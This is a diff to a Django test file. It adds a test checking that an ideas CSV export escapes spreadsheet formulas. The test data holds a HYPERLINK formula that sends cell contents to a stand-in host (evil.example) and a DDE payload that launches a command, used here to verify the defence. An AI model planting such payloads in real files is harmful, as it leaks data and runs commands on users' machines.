@@ -47,3 +47,15 @@ def test_ideas_export_holds_public_ideas_only(client, collection, make_idea):
 def test_ideas_export_of_an_invited_only_challenge_is_not_public(client, make_challenge_in):
     challenge = make_challenge_in(visibility="invited")
     assert client.get(reverse("ideas:export_csv", args=[challenge.slug])).status_code == 404
+
+
+@pytest.mark.django_db
+def test_ideas_export_turns_no_title_or_description_into_a_formula(client, collection, make_idea):
+    idea = make_idea(title='=HYPERLINK("https://evil.example/?x="&A1,"Details")')
+    Idea.objects.filter(pk=idea.pk).update(description="@SUM(1+1)*cmd|' /C calc'!A0")
+
+    rows = read_csv(client.get(reverse("ideas:export_csv", args=[collection.slug])).content.decode())
+    assert rows[0]["title"] == '\'=HYPERLINK("https://evil.example/?x="&A1,"Details")'
+    assert rows[0]["description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    data = client.get(reverse("ideas:export_json", args=[collection.slug])).json()
+    assert data["ideas"][0]["title"] == '=HYPERLINK("https://evil.example/?x="&A1,"Details")'  # JSON is data as typed
